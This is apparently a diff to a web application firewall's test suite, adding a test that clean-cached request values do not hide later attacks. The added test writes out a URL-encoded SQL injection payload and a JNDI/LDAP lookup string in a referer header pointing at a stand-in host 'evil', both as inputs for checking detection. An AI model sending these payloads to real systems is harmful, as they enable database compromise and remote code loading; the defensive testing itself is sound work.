@@ -159,3 +159,15 @@ def test_ordinary_requests_stay_within_the_shipped_budget(shipped: SignatureSet)
     orders = [{"id": i, "sku": f"SKU-{i:06d}", "note": "Leave it at the door, please.", "email": f"u{i}@example.com"} for i in range(400)]
     req = RequestView("POST", "/api/orders", headers={"content-type": "application/json"}, body=json.dumps(orders).encode())
     assert inspector.inspect(req) is None and inspector.over_budget == 0
+
+
+def test_values_remembered_clean_never_hide_an_attack_in_a_later_request(shipped: SignatureSet) -> None:
+    inspector = WafInspector(shipped, InspectionSettings())
+    headers = {"user-agent": "Mozilla/5.0 (X11; Linux x86_64)", "referer": "https://shop.example/catalog?page=1"}
+    assert inspector.inspect(RequestView("GET", "/search?q=shoes&page=2", headers=headers)) is None
+    assert inspector.inspect(RequestView("GET", "/search?q=shoes&page=2", headers=headers)) is None
+    attacked = inspector.inspect(RequestView("GET", "/search?q=shoes&page=2&x=%27%20OR%201%3D1--", headers=headers))
+    assert attacked is not None and attacked.categories[0] == "sqli"
+    poisoned = {**headers, "referer": "https://shop.example/${jndi:ldap://evil/a}"}
+    found = inspector.inspect(RequestView("GET", "/search?q=shoes&page=2", headers=poisoned))
+    assert found is not None and "jndi" in found.categories
